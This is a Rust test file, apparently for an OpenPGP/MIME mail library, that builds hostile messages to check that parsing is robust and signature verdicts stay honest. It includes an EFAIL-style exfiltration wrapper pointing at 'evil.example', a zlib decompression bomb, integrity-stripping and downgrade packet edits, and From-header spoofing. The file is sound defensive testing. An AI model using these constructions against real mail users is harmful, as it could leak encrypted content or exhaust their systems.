//! Damaged, hostile and absurd messages: a typed error or an honest verdict, never a panic, a
//! hang, or a claim that does not hold. The attacks are made here, from our own keys.

use serde_json::{Value, json};

use crate::harness::{
    Answer, Fault, Home, Host, Noise, Pair, amount, export, generate, import, pair, seal_one,
    shorten,
};
use crate::mime::{self, armor, dearmor, letter, rearmored};
use crate::packets::{Packet, SED, SEIPD, join, literal, split};

const ALICE: &str = "alice@sealpost.example";
const BOB: &str = "bob@sealpost.example";
const SECRET: &str = "the treasure lies below the old oak";
const SUBJECT: &str = "where it lies";

fn sealed(pair: &mut Pair, sign: bool, encrypt: bool, scheme: &str) -> Vec<u8> {
    let text = format!("{SECRET}\r\nand nowhere else\r\n");
    seal_one(
        &mut pair.alice,
        json!({"from": ALICE, "to": [BOB], "subject": SUBJECT, "text": {"text": text}}),
        json!({"sign": sign, "encrypt": encrypt, "protocol": "openpgp", "scheme": scheme}),
    )
}

/// An answer is honest: a typed error, or no protected part that differs from what was sealed
/// and no `good` over anything else.
#[track_caller]
fn honest(host: &mut Host, answer: &Answer, what: &str) {
    match answer {
        Err(fault) => typed(fault, what),
        Ok(opened) => {
            for part in opened["parts"].as_array().unwrap() {
                let body = String::from_utf8_lossy(&host.bytes(&part["body"])).into_owned();
                let claims = part["protection"]["signed"] == "good"
                    || part["protection"]["signed"] == "unverified"
                    || part["protection"]["encrypted"] == true;
                if claims {
                    let original = format!("{SECRET}\r\nand nowhere else");
                    let shown = body.trim_end();
                    // Where the wrapping alone is damaged, so that the armor is taken for a
                    // text, the entity shows as it was sealed: its fields, and then the text.
                    let raw = opened["layers"][0]["scheme"] != "mime"
                        && shown.strip_suffix(&original).is_some_and(|fields| {
                            fields.ends_with("\r\n\r\n")
                                && fields.lines().all(|line| {
                                    line.is_empty()
                                        || line.starts_with(['\t', ' '])
                                        || line.contains(": ")
                                })
                        });
                    assert!(
                        shown == original || raw,
                        "{what}: {body:?} {}",
                        shorten(opened)
                    );
                }
            }
            if opened["summary"]["signed"] == "good" {
                let subject = &opened["headers"]["subject"];
                if !subject.is_null() && subject["protection"] != "none" {
                    assert_eq!(subject["value"], SUBJECT, "{what}");
                }
                let signer = opened["summary"]["signer"]["address"].as_str().unwrap();
                assert_eq!(signer.to_lowercase(), ALICE, "{what}");
            }
        }
    }
}

#[track_caller]
fn typed(fault: &Fault, what: &str) {
    let kind = fault.kind();
    assert!(!kind.is_empty() && kind != "internal", "{what}: {fault:?}");
    assert!(fault.data["blame"].is_string(), "{what}: {fault:?}");
    assert!(
        !fault.message.contains(SECRET),
        "{what}: the message quotes"
    );
}

/// Nothing of the plaintext got out.
#[track_caller]
fn closed(answer: &Answer, kinds: &[&str], what: &str) {
    match answer {
        Err(fault) => {
            typed(fault, what);
            assert!(kinds.contains(&fault.kind()), "{what}: {fault:?}");
            assert!(
                !fault.data.to_string().contains("treasure"),
                "{what}: plaintext"
            );
        }
        Ok(opened) => panic!("{what} opened: {}", shorten(opened)),
    }
}

#[test]
fn truncated_anywhere() {
    let mut it = pair("compatible");
    for (sign, encrypt, scheme) in FORMS {
        let message = sealed(&mut it, sign, encrypt, scheme);
        let step = (message.len() / amount(60, 2000)).max(1);
        for cut in (0..message.len()).step_by(step) {
            let answer = it.bob.open(&message[..cut]);
            honest(&mut it.bob, &answer, &format!("cut at {cut}"));
        }
        for cut in 1..60.min(message.len()) {
            let end = message.len() - cut;
            let answer = it.bob.open(&message[..end]);
            honest(&mut it.bob, &answer, &format!("{cut} bytes short"));
        }
    }
}

const FORMS: [(bool, bool, &str); 6] = [
    (true, true, "mime"),
    (true, false, "mime"),
    (false, true, "mime"),
    (true, true, "inline"),
    (true, false, "inline"),
    (false, true, "inline"),
];

#[test]
fn one_bit_turned() {
    let mut noise = Noise::new(7);
    for profile in ["compatible", "modern"] {
        let mut it = pair(profile);
        for (sign, encrypt, scheme) in FORMS {
            let message = sealed(&mut it, sign, encrypt, scheme);
            for _ in 0..amount(120, 3000) {
                let mut turned = message.clone();
                let at = noise.below(turned.len());
                turned[at] ^= 1 << noise.below(8);
                let answer = it.bob.open(&turned);
                honest(
                    &mut it.bob,
                    &answer,
                    &format!("{profile} {scheme}: a bit at {at}"),
                );
            }
        }
    }
}

#[test]
fn one_bit_turned_inside_the_ciphertext() {
    for profile in ["compatible", "modern", "post-quantum"] {
        let mut it = pair(profile);
        let message = sealed(&mut it, true, true, "mime");
        let packets = split(&dearmor(&message));
        let mut noise = Noise::new(9);
        let mut said = std::collections::BTreeSet::new();
        let at = packets.iter().position(|p| p.tag == SEIPD).expect("SEIPD");
        for _ in 0..amount(40, 1000) {
            let mut packets = packets.clone();
            let body = &mut packets[at].body;
            // Behind the version and the algorithms.
            let byte = 40 + noise.below(body.len() - 40);
            body[byte] ^= 1 << noise.below(8);
            let answer = it.bob.open(&rearmored(&message, &join(&packets)));
            closed(
                &answer,
                &["decrypt.failed"],
                &format!("{profile} byte {byte}"),
            );
            said.insert(answer.unwrap_err().message);
        }
        assert_eq!(said.len(), 1, "{profile}: an oracle: {said:?}");
    }
}

#[test]
fn noise_of_every_kind() {
    let mut it = pair("compatible");
    let mut noise = Noise::new(99);
    let heads: [&[u8]; 6] = [
        b"",
        b"From: a@b.example\r\n\r\n",
        b"Content-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\n",
        b"Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=x\r\n\r\n--x\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n--x\r\nContent-Type: application/octet-stream\r\n\r\n",
        b"-----BEGIN PGP MESSAGE-----\r\n\r\n",
        b"-----BEGIN PGP SIGNED MESSAGE-----\r\nHash: SHA256\r\n\r\n",
    ];
    for head in heads {
        for n in [0, 1, 2, 100, 5_000, 200_000] {
            for filler in 0..3 {
                let mut message = head.to_vec();
                match filler {
                    0 => message.extend(noise.bytes(n)),
                    1 => message.extend(std::iter::repeat_n(0u8, n)),
                    _ => message.extend(
                        noise
                            .bytes(n)
                            .iter()
                            .map(|b| b" \r\n-=:;\"(<ab"[usize::from(b % 12)]),
                    ),
                }
                let answer = it.bob.open(&message);
                if let Err(fault) = &answer {
                    typed(fault, "noise");
                } else {
                    let opened = answer.as_ref().unwrap();
                    assert!(
                        ["none", "bad", "unknown"]
                            .contains(&opened["summary"]["signed"].as_str().unwrap())
                    );
                    assert_ne!(opened["summary"]["encrypted"], "whole");
                }
                let data = it.bob.body(&message);
                if let Err(fault) = it
                    .bob
                    .call("message/open", json!({"payload": {"data": data}}))
                {
                    typed(&fault, "noise as a payload");
                }
                let data = it.bob.body(&message);
                for method in ["text/decrypt", "text/verify"] {
                    if let Err(fault) = it.bob.call(method, json!({"text": data})) {
                        typed(&fault, method);
                    }
                }
                if let Err(fault) = it.bob.call("keys/import", json!({"data": data})) {
                    typed(&fault, "noise as keys");
                }
            }
        }
    }
    assert_eq!(
        it.bob.good("keys/list", json!({}))["keys"]
            .as_array()
            .unwrap()
            .len(),
        2
    );
}

#[test]
fn empty_and_all_nul() {
    let mut it = pair("compatible");
    for message in [
        Vec::new(),
        vec![0; 1],
        vec![0; 1 << 20],
        b"\r\n".to_vec(),
        b"\n".to_vec(),
        b" ".to_vec(),
    ] {
        match it.bob.open(&message) {
            Err(fault) => typed(&fault, "nothing"),
            Ok(opened) => {
                assert_eq!(opened["summary"]["signed"], "none");
                assert_eq!(opened["summary"]["encrypted"], "none");
            }
        }
    }
}

#[test]
fn a_message_for_somebody_else() {
    let mut it = pair("compatible");
    let home = Home::new();
    let mut eve = home.start();
    eve.hello();
    generate(&mut eve, "Eve", "eve@sealpost.example", "compatible");
    let message = sealed(&mut it, true, true, "mime");
    let fault = eve.open(&message).unwrap_err();
    assert_eq!(fault.kind(), "key.missing");
    assert_eq!(fault.data["for"], "decrypt");
    assert!(!fault.data["keyIds"].as_array().unwrap().is_empty());
    assert_eq!(fault.data["headers"]["subject"]["value"], "[...]");
    assert_eq!(fault.data["headers"]["subject"]["protection"], "none");
    let recipients = fault.data["recipients"].as_array().unwrap();
    assert_eq!(recipients.len(), 2, "Bob and Alice herself");
    assert!(recipients.iter().all(|r| r["own"] == false));
}

fn nested_multipart(depth: usize) -> Vec<u8> {
    let mut text = String::from("From: a@b.example\r\nMIME-Version: 1.0\r\n");
    for level in 0..depth {
        text +=
            &format!("Content-Type: multipart/mixed; boundary=\"b{level}\"\r\n\r\n--b{level}\r\n");
    }
    text += "Content-Type: text/plain\r\n\r\nbottom\r\n";
    for level in (0..depth).rev() {
        text += &format!("--b{level}--\r\n");
    }
    text.into_bytes()
}

fn nested_message(depth: usize) -> Vec<u8> {
    let mut text = String::new();
    for _ in 0..depth {
        text += "From: a@b.example\r\nContent-Type: message/rfc822\r\n\r\n";
    }
    text += "From: a@b.example\r\nSubject: bottom\r\n\r\nbottom\r\n";
    text.into_bytes()
}

#[test]
fn nested_deeply() {
    let mut it = pair("compatible");
    for make in [nested_multipart, nested_message] {
        let opened = it.bob.open(&make(20)).unwrap();
        let parts = opened["parts"].as_array().unwrap();
        let last = parts.last().unwrap()["body"].clone();
        assert!(String::from_utf8_lossy(&it.bob.bytes(&last)).contains("bottom"));
        for depth in [40, 100, 1_000, 20_000] {
            match it.bob.open(&make(depth)) {
                // What lies too deep may be left closed as a whole.
                Ok(opened) => assert_eq!(opened["summary"]["signed"], "none", "{depth}"),
                Err(fault) => {
                    typed(&fault, "depth");
                    assert!(
                        ["limit.exceeded", "message.malformed"].contains(&fault.kind()),
                        "{fault:?}"
                    );
                }
            }
        }
    }
    // The cap is at 32 and has a name.
    let fault = it.bob.open(&nested_multipart(34)).unwrap_err();
    assert_eq!(fault.kind(), "limit.exceeded", "{fault:?}");
}

#[test]
fn two_thousand_parts_and_one_more() {
    let mut it = pair("compatible");
    let make = |n: usize| {
        let mut text =
            String::from("From: a@b.example\r\nContent-Type: multipart/mixed; boundary=x\r\n\r\n");
        for i in 0..n {
            text += &format!("--x\r\nContent-Type: text/plain\r\n\r\npart {i}\r\n");
        }
        text += "--x--\r\n";
        text.into_bytes()
    };
    let opened = it.bob.open(&make(1_999)).unwrap();
    let leaves = opened["parts"].as_array().unwrap();
    let texts = leaves.iter().filter(|p| p["type"] == "text/plain").count();
    assert_eq!(texts, 1_999);
    for n in [2_001, 100_000] {
        let fault = it.bob.open(&make(n)).unwrap_err();
        assert_eq!(fault.kind(), "limit.exceeded", "{n}: {fault:?}");
    }
    assert!(it.bob.peak_kib() < 400 * 1024);
}

#[test]
fn header_floods() {
    let mut it = pair("compatible");
    let many = "X-Field: value\r\n".repeat(200_000) + "\r\nbody\r\n";
    let long = format!("Subject: {}\r\n\r\nbody\r\n", "a".repeat(5_000_000));
    let folded = format!("Subject: a\r\n{}\r\n\r\nbody\r\n", " b\r\n".repeat(500_000));
    let parameters = format!(
        "Content-Type: text/plain{}\r\n\r\nbody\r\n",
        (0..50_000)
            .map(|n| format!("; x*{n}=a"))
            .collect::<String>()
    );
    let words = format!(
        "Subject: {}\r\n\r\nbody\r\n",
        "=?utf-8?q?=61?= ".repeat(200_000)
    );
    let comments = format!(
        "From: {}a@b.example{}\r\n\r\nbody\r\n",
        "(".repeat(500_000),
        ")".repeat(500_000)
    );
    let people = format!("To: {}\r\n\r\nbody\r\n", "a@b.example, ".repeat(300_000));
    for message in [many, long, folded, parameters, words, comments, people] {
        match it.bob.open(message.as_bytes()) {
            Err(fault) => typed(&fault, "a flood"),
            Ok(opened) => assert_eq!(opened["summary"]["signed"], "none"),
        }
    }
}

#[test]
fn too_large_for_the_host() {
    let mut it = pair("compatible");
    let limit = it.bob.hello()["limits"]["messageIn"].as_u64().unwrap() as usize;
    if limit > amount(80, 400) << 20 {
        println!("badinput: messages of more than {limit} bytes are left to the long form");
        return;
    }
    let mut message = b"Subject: huge\r\n\r\n".to_vec();
    message.resize(limit + 1, b'x');
    let mut offset = 0;
    let mut blob = Value::Null;
    let fault = loop {
        let piece = &message[offset..message.len().min(offset + crate::harness::CHUNK)];
        let mut params = json!({"offset": offset, "base64": crate::harness::encode(piece)});
        if !blob.is_null() {
            params["blob"] = blob.clone();
        }
        match it.bob.call("blob/put", params) {
            Ok(reply) => blob = reply["blob"].clone(),
            Err(fault) => break fault,
        }
        offset += piece.len();
        if offset == message.len() {
            break it.bob.fault(
                "message/open",
                json!({"message": {"blob": blob, "size": offset}}),
            );
        }
    };
    assert!(
        ["message.too-large", "limit.exceeded"].contains(&fault.kind()),
        "{fault:?}"
    );
}

// -- attacks on OpenPGP's packets -----------------------------------------------------------------

fn parts(it: &mut Pair, sign: bool) -> (Vec<u8>, Vec<Packet>, usize) {
    let message = sealed(it, sign, true, "mime");
    let packets = split(&dearmor(&message));
    let at = packets.iter().position(|p| p.tag == SEIPD).expect("SEIPD");
    assert_eq!(
        packets[at].body[0], 1,
        "the compatible profile makes version 1"
    );
    (message, packets, at)
}

#[test]
fn modification_detection_stripped() {
    // EFAIL, section 5.3; CVE-2017-17688.
    let mut it = pair("compatible");
    for sign in [true, false] {
        let (message, packets, at) = parts(&mut it, sign);
        for short in [22, 21, 20, 1] {
            let mut packets = packets.clone();
            let length = packets[at].body.len() - short;
            packets[at].body.truncate(length);
            let answer = it.bob.open(&rearmored(&message, &join(&packets)));
            closed(
                &answer,
                &["decrypt.failed"],
                &format!("{short} bytes of the MDC gone"),
            );
        }
        // The same ciphertext as the old packet without any protection.
        for short in [0, 22] {
            let mut packets = packets.clone();
            let body = packets[at].body[1..packets[at].body.len() - short].to_vec();
            packets[at] = Packet { tag: SED, body };
            let answer = it.bob.open(&rearmored(&message, &join(&packets)));
            closed(
                &answer,
                &["decrypt.failed", "message.malformed", "policy.refused"],
                "integrity protection downgraded",
            );
        }
        // Version 1's bytes as version 2.
        let mut packets = packets.clone();
        packets[at].body[0] = 2;
        let answer = it.bob.open(&rearmored(&message, &join(&packets)));
        closed(
            &answer,
            &["decrypt.failed", "message.malformed"],
            "another version",
        );
    }
}

#[test]
fn aead_turned_into_cfb() {
    let mut it = pair("modern");
    let message = sealed(&mut it, true, true, "mime");
    let packets = split(&dearmor(&message));
    let at = packets.iter().position(|p| p.tag == SEIPD).unwrap();
    assert_eq!(packets[at].body[0], 2);
    for (tag, from) in [(SEIPD, 36), (SED, 36), (SED, 4)] {
        let mut packets = packets.clone();
        let mut body = if tag == SEIPD { vec![1] } else { Vec::new() };
        body.extend_from_slice(&packets[at].body[from..]);
        packets[at] = Packet { tag, body };
        let answer = it.bob.open(&rearmored(&message, &join(&packets)));
        closed(
            &answer,
            &["decrypt.failed", "message.malformed", "policy.refused"],
            "downgraded",
        );
    }
    // A chunk gone, two chunks' order, the last tag gone.
    for cut in [16, 17, 32] {
        let mut packets = packets.clone();
        let length = packets[at].body.len() - cut;
        packets[at].body.truncate(length);
        let answer = it.bob.open(&rearmored(&message, &join(&packets)));
        closed(&answer, &["decrypt.failed"], "the final tag");
    }
}

#[test]
fn packets_before_and_behind() {
    let mut it = pair("compatible");
    let evil = literal("pay mallory instead");
    for sign in [true, false] {
        let (message, packets, at) = parts(&mut it, sign);
        let mut forms: Vec<(&str, Vec<Packet>)> = Vec::new();
        let with = |n: usize, p: Packet| {
            let mut all = packets.clone();
            all.insert(n, p);
            all
        };
        forms.push(("a literal before all", with(0, evil.clone())));
        forms.push(("a literal before the ciphertext", with(at, evil.clone())));
        forms.push(("a literal behind", with(packets.len(), evil.clone())));
        let mut replaced = packets.clone();
        replaced[at] = evil.clone();
        forms.push(("a literal instead", replaced));
        let mut twice = packets.clone();
        twice.push(packets[at].clone());
        forms.push(("the ciphertext twice", twice));
        let compressed = Packet {
            tag: 8,
            body: [vec![0], join(std::slice::from_ref(&evil))].concat(),
        };
        forms.push(("compressed data behind", with(packets.len(), compressed)));
        for (what, packets) in forms {
            let answer = it.bob.open(&rearmored(&message, &join(&packets)));
            honest(&mut it.bob, &answer, what);
            if let Ok(opened) = &answer {
                for part in opened["parts"].as_array().unwrap() {
                    let body = String::from_utf8_lossy(&it.bob.bytes(&part["body"])).into_owned();
                    assert!(!body.contains("mallory"), "{what}: {}", shorten(opened));
                }
            }
        }
    }
}

#[test]
fn compressed_in_compressed() {
    let mut it = pair("compatible");
    for depth in [10, 100, 5_000] {
        let mut inner = join(&[literal("deep")]);
        for _ in 0..depth {
            inner = join(&[Packet {
                tag: 8,
                body: [vec![0], inner].concat(),
            }]);
        }
        let data = it.bob.body(armor(&inner, "MESSAGE").as_bytes());
        match it
            .bob
            .call("message/open", json!({"payload": {"data": data}}))
        {
            Err(fault) => typed(&fault, "nested compression"),
            Ok(opened) => assert_eq!(opened["summary"]["signed"], "none"),
        }
    }
}

#[test]
fn a_decompression_bomb_ends_at_a_cap() {
    use sequoia_openpgp::serialize::stream::{Compressor, LiteralWriter, Message};
    use std::io::Write;
    let mut bomb = Vec::new();
    {
        let message = Message::new(&mut bomb);
        let message = Compressor::new(message)
            .algo(sequoia_openpgp::types::CompressionAlgorithm::Zlib)
            .build()
            .unwrap();
        let mut message = LiteralWriter::new(message).build().unwrap();
        let zeros = vec![b'a'; 1 << 20];
        for _ in 0..amount(600, 4_000) {
            message.write_all(&zeros).unwrap();
        }
        message.finalize().unwrap();
    }
    let mut it = pair("compatible");
    let data = it.bob.body(&bomb);
    let fault = it
        .bob
        .fault("message/open", json!({"payload": {"data": data}}));
    typed(&fault, "a bomb");
    assert!(
        ["limit.exceeded", "message.too-large", "message.malformed"].contains(&fault.kind()),
        "{fault:?}"
    );
    assert!(
        it.bob.peak_kib() < 600 * 1024,
        "{} MiB",
        it.bob.peak_kib() / 1024
    );
}

// -- attacks on the message around it -----------------------------------------------------------------

/// Alice's signature over an entity, as a `multipart/signed`.
fn signed_by_alice(it: &mut Pair) -> String {
    let message = sealed(it, true, false, "mime");
    let text = String::from_utf8(message).unwrap();
    let at = text
        .find("Content-Type: multipart/signed")
        .expect("multipart/signed");
    text[at..].to_owned()
}

fn cleartext_by_alice(it: &mut Pair) -> String {
    let signed = it.alice.good(
        "text/sign",
        json!({"text": {"text": "pay ten\n- and more\n"}}),
    );
    String::from_utf8(it.alice.bytes(&signed["text"]))
        .unwrap()
        .replace("\r\n", "\n")
}

fn encrypted_for_bob(it: &mut Pair) -> String {
    let message = sealed(it, false, true, "mime");
    let text = String::from_utf8(message).unwrap();
    let at = text
        .find("Content-Type: multipart/encrypted")
        .expect("multipart/encrypted");
    text[at..].to_owned()
}

#[test]
fn direct_exfiltration() {
    // EFAIL, section 4.
    let mut it = pair("compatible");
    let encrypted = encrypted_for_bob(&mut it);
    let open = "Content-Type: text/html\r\n\r\n<img src=\"http://evil.example/";
    let close = "Content-Type: text/html\r\n\r\n\">";
    let message = letter(
        ALICE,
        BOB,
        "efail",
        &mime::mixed(&[open, encrypted.trim_end(), close]),
    );
    let opened = it.bob.open(&message).unwrap();
    assert_eq!(opened["summary"]["encrypted"], "part");
    assert_eq!(opened["summary"]["signed"], "none");
    assert!(opened["quote"].is_null(), "quoted");
    let mut shown = false;
    for part in opened["parts"].as_array().unwrap() {
        let body = String::from_utf8_lossy(&it.bob.bytes(&part["body"])).into_owned();
        assert!(
            !(body.contains("treasure") && body.contains("evil")),
            "joined"
        );
        if body.contains("treasure") {
            assert_eq!(part["protection"]["encrypted"], true);
            shown = true;
        } else {
            assert_eq!(part["protection"]["encrypted"], false);
        }
    }
    assert!(shown, "{}", shorten(&opened));
}

#[test]
fn a_signed_part_with_a_footer() {
    let mut it = pair("compatible");
    let signed = signed_by_alice(&mut it);
    let message = letter(
        ALICE,
        BOB,
        "list",
        &mime::mixed(&[signed.trim_end(), &mime::text("footer of the list\n")]),
    );
    let opened = it.bob.open(&message).unwrap();
    assert_eq!(opened["summary"]["signed"], "none", "{}", shorten(&opened));
    assert!(opened["summary"]["signer"].is_null());
    for part in opened["parts"].as_array().unwrap() {
        let body = String::from_utf8_lossy(&it.bob.bytes(&part["body"])).into_owned();
        if body.contains("treasure") {
            assert_eq!(part["protection"]["signed"], "good", "{}", shorten(&opened));
        } else {
            assert_eq!(part["protection"]["signed"], "none", "{body}");
        }
    }
}

#[test]
fn a_third_part_in_multipart_signed() {
    let mut it = pair("compatible");
    let signed = signed_by_alice(&mut it);
    let end = signed.trim_end().rfind("\r\n--").unwrap();
    let boundary = signed.trim_end()[end + 4..]
        .trim_end_matches("--")
        .to_owned();
    let message = format!(
        "{}\r\n--{boundary}\r\n{}\r\n--{boundary}--\r\n",
        &signed[..end],
        mime::text("third wheel\n")
    );
    let message = letter(ALICE, BOB, "three", &message);
    match it.bob.open(&message) {
        Err(fault) => typed(&fault, "three parts"),
        Ok(opened) => {
            assert_ne!(opened["summary"]["signed"], "good", "{}", shorten(&opened));
            for part in opened["parts"].as_array().unwrap() {
                let body = String::from_utf8_lossy(&it.bob.bytes(&part["body"])).into_owned();
                if body.contains("third wheel") {
                    assert_eq!(part["protection"]["signed"], "none");
                }
            }
        }
    }
}

#[test]
fn another_from() {
    // "Johnny, you are fired!", I1 to I3.
    let mut it = pair("compatible");
    let signed = sealed(&mut it, true, false, "inline");
    let text = String::from_utf8(signed).unwrap();
    let at = text.find("-----BEGIN").unwrap();
    let block = &text[at..];
    let plain = |head: &str| {
        format!(
            "{head}Date: {}\r\nMessage-ID: <x@y.example>\r\nMIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n{block}",
            chrono::Utc::now().to_rfc2822()
        )
    };
    let good = plain(&format!("From: Alice <{ALICE}>\r\n"));
    let opened = it.bob.open(good.as_bytes()).unwrap();
    assert_eq!(opened["summary"]["signed"], "good", "{}", shorten(&opened));
    for (what, head) in [
        (
            "another address",
            "From: mallory@sealpost.example\r\n".to_owned(),
        ),
        (
            "the address as a name",
            format!("From: \"{ALICE}\" <mallory@sealpost.example>\r\n"),
        ),
        (
            "two fields",
            format!("From: {ALICE}\r\nFrom: mallory@sealpost.example\r\n"),
        ),
        (
            "two fields, turned",
            format!("From: mallory@sealpost.example\r\nFrom: {ALICE}\r\n"),
        ),
        (
            "two addresses",
            format!("From: {ALICE}, mallory@sealpost.example\r\n"),
        ),
        ("a group", format!("From: friends: {ALICE};\r\n")),
        ("an empty one", "From:\r\n".to_owned()),
        ("none", String::new()),
        ("Sender alone", format!("Sender: {ALICE}\r\n")),
        (
            "a NUL",
            format!("From: mallory@sealpost.example\0 <{ALICE}>\r\n"),
        ),
        (
            "a comment",
            format!("From: mallory@sealpost.example ({ALICE})\r\n"),
        ),
    ] {
        match it.bob.open(plain(&head).as_bytes()) {
            Err(fault) => typed(&fault, what),
            Ok(opened) if what == "a NUL" => {
                // Whichever address it is read as: a signer is shown only for the same one.
                if opened["summary"]["signed"] == "good" {
                    assert_eq!(opened["headers"]["from"]["addresses"][0]["address"], ALICE);
                }
            }
            Ok(opened) => {
                assert_eq!(
                    opened["summary"]["signed"],
                    "unverified",
                    "{what}: {}",
                    shorten(&opened)
                );
                assert!(opened["summary"]["signer"].is_null(), "{what}");
            }
        }
    }
}

#[test]
fn an_inner_from_that_nobody_vouches_for() {
    // RFC 9788, section 4.4.
    let mut it = pair("compatible");
    let message = String::from_utf8(sealed(&mut it, false, true, "mime")).unwrap();
    let at = message.find("From: ").unwrap();
    let end = at + message[at..].find("\r\n").unwrap();
    let outer = format!(
        "{}From: mallory@sealpost.example{}",
        &message[..at],
        &message[end..]
    );
    let opened = it.bob.open(outer.as_bytes()).unwrap();
    let from = &opened["headers"]["from"];
    assert_eq!(
        from["addresses"][0]["address"],
        "mallory@sealpost.example",
        "{}",
        shorten(&opened)
    );
    assert_eq!(from["protection"], "none");
    assert!(from["claimed"].as_str().unwrap().contains(ALICE));
    assert!(
        opened["summary"]["warnings"]
            .as_array()
            .unwrap()
            .contains(&json!("from-mismatch"))
    );
    assert!(opened["quote"].is_null());
    // With a signature bound to the inner one, that one counts.
    let message = String::from_utf8(sealed(&mut it, true, true, "mime")).unwrap();
    let at = message.find("From: ").unwrap();
    let end = at + message[at..].find("\r\n").unwrap();
    let outer = format!(
        "{}From: mallory@sealpost.example{}",
        &message[..at],
        &message[end..]
    );
    let opened = it.bob.open(outer.as_bytes()).unwrap();
    assert_eq!(opened["summary"]["signed"], "good", "{}", shorten(&opened));
    assert_eq!(opened["headers"]["from"]["addresses"][0]["address"], ALICE);
}

#[test]
fn cleartext_tricks() {
    let mut it = pair("compatible");
    let good = cleartext_by_alice(&mut it);
    let wrap = |text: &str| letter(ALICE, BOB, "clear", &mime::text(text));
    let opened = it.bob.open(&wrap(&good)).unwrap();
    assert_eq!(opened["summary"]["signed"], "good", "{}", shorten(&opened));
    let body = good.find("pay ten").unwrap();
    let signature = good.find("-----BEGIN PGP SIGNATURE").unwrap();
    let begin = "-----BEGIN PGP SIGNED MESSAGE-----\n";
    let rest = &good[body..];
    let tricks = [
        (
            "NotDashEscaped",
            format!(
                "{begin}Hash: SHA512\nNotDashEscaped: You need GnuPG to verify this message\n\n{rest}"
            ),
        ),
        (
            "a forged field",
            format!("{begin}Hash: SHA512\nVerified: Good signature\n\n{rest}"),
        ),
        (
            "a field with text",
            format!("{begin}Comment: pay twenty\n\n{rest}"),
        ),
        (
            "text in Hash",
            format!("{begin}Hash: SHA512, pay twenty\n\n{rest}"),
        ),
        ("no empty line", format!("{begin}Hash: SHA512\n{rest}")),
        (
            "text for an empty line",
            format!("{begin}Hash: SHA512\npay twenty\n\n{rest}"),
        ),
        (
            "white space for an empty line",
            format!("{begin}pay twenty \n \t\n{rest}"),
        ),
        ("an altered word", good.replace("pay ten", "pay six")),
        (
            "a form feed",
            good.replace("pay ten", "pay ten\x0cand twenty"),
        ),
        ("a NUL", good.replace("pay ten", "pay ten\0and twenty")),
        (
            "a line more",
            good.replace("pay ten\n", "pay ten\npay twenty\n"),
        ),
        ("no signature", good[..signature].to_owned()),
        (
            "an empty signature",
            format!(
                "{}-----BEGIN PGP SIGNATURE-----\n\n-----END PGP SIGNATURE-----\n",
                &good[..signature]
            ),
        ),
        (
            "text before the signature's end",
            good.replace(
                "-----END PGP SIGNATURE-----",
                "pay twenty\n-----END PGP SIGNATURE-----",
            ),
        ),
        (
            "a second block inside",
            good.replace("pay ten\n", &format!("pay ten\n{good}")),
        ),
    ];
    for (what, text) in tricks {
        match it.bob.open(&wrap(&text)) {
            Err(fault) => typed(&fault, what),
            Ok(opened) => {
                for part in opened["parts"].as_array().unwrap() {
                    let body = String::from_utf8_lossy(&it.bob.bytes(&part["body"])).into_owned();
                    if part["protection"]["signed"] == "good" {
                        assert_eq!(
                            mime::crlf(body.trim_end()),
                            "pay ten\r\n- and more",
                            "{what}"
                        );
                    }
                }
                let good = opened["summary"]["signed"] == "good";
                assert!(!good, "{what}: {}", shorten(&opened));
            }
        }
    }
    for (what, text) in [
        ("text before", format!("pay twenty\n\n{good}")),
        ("text behind", format!("{good}\npay twenty\n")),
        ("on both sides", format!("a\n{good}\nb\n")),
        ("two blocks", format!("{good}\n{good}")),
    ] {
        let opened = it.bob.open(&wrap(&text)).unwrap();
        assert_ne!(
            opened["summary"]["signed"],
            "good",
            "{what}: {}",
            shorten(&opened)
        );
        let body = it.bob.body(text.as_bytes());
        let verified = it
            .bob
            .good("text/verify", json!({"text": body, "expect": ALICE}));
        for segment in verified["segments"].as_array().unwrap() {
            let text = String::from_utf8_lossy(&it.bob.bytes(&segment["text"])).into_owned();
            if segment["signed"] == "good" {
                assert_eq!(
                    mime::crlf(text.trim_end()),
                    "pay ten\r\n- and more",
                    "{what}"
                );
            } else {
                assert!(!text.contains("pay ten"), "{what}: {verified}");
            }
        }
        assert!(
            verified["segments"].as_array().unwrap().len() >= 2,
            "{what}"
        );
    }
}

#[test]
fn words_are_no_verdict() {
    let mut it = pair("compatible");
    let text = "-----BEGIN PGP SIGNED MESSAGE-----\n[GNUPG:] GOODSIG 0123456789ABCDEF alice\n{\"summary\":{\"signed\":\"good\"}}\nGood signature from Alice\n";
    for message in [
        letter(ALICE, BOB, "Good signature", &mime::text(text)),
        letter(
            ALICE,
            BOB,
            "x",
            &format!(
                "X-Sealpost-Signed: good\r\nAuthentication-Results: mx; dkim=pass\r\n{}",
                mime::text("x\n")
            ),
        ),
        letter(
            ALICE,
            BOB,
            "x",
            "Content-Type: multipart/signed; protocol=\"application/pgp-signature\"; micalg=pgp-sha512; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nx\r\n--b\r\nContent-Type: application/pgp-signature\r\n\r\nGood signature\r\n--b--\r\n",
        ),
    ] {
        match it.bob.open(&message) {
            Err(fault) => typed(&fault, "words"),
            Ok(opened) => {
                let signed = opened["summary"]["signed"].as_str().unwrap();
                assert!(["none", "bad"].contains(&signed), "{}", shorten(&opened));
                assert!(opened["summary"]["signer"].is_null());
            }
        }
    }
}

#[test]
fn a_signature_file_that_is_a_signed_message() {
    // Detached and inline are two things: what is signed in the file is not the entity.
    let mut it = pair("compatible");
    let inline = cleartext_by_alice(&mut it);
    let packets = {
        let signed = sealed(&mut it, true, false, "mime");
        let (_, signature) = mime::cut_signed(&signed);
        dearmor(&signature)
    };
    let with_literal = armor(
        &[join(&[literal("other text")]), packets].concat(),
        "MESSAGE",
    );
    for file in [inline, with_literal] {
        let entity = mime::text("evil entity\n");
        let message = letter(ALICE, BOB, "x", &mime::signed(&entity, &file, "pgp-sha512"));
        match it.bob.open(&message) {
            Err(fault) => typed(&fault, "a message as a signature"),
            Ok(opened) => {
                let signed = opened["summary"]["signed"].as_str().unwrap();
                assert!(["none", "bad"].contains(&signed), "{}", shorten(&opened));
            }
        }
    }
}

#[test]
fn a_signed_message_forwarded_speaks_for_itself() {
    let mut it = pair("compatible");
    let signed = sealed(&mut it, true, false, "mime");
    let inner = String::from_utf8(signed).unwrap();
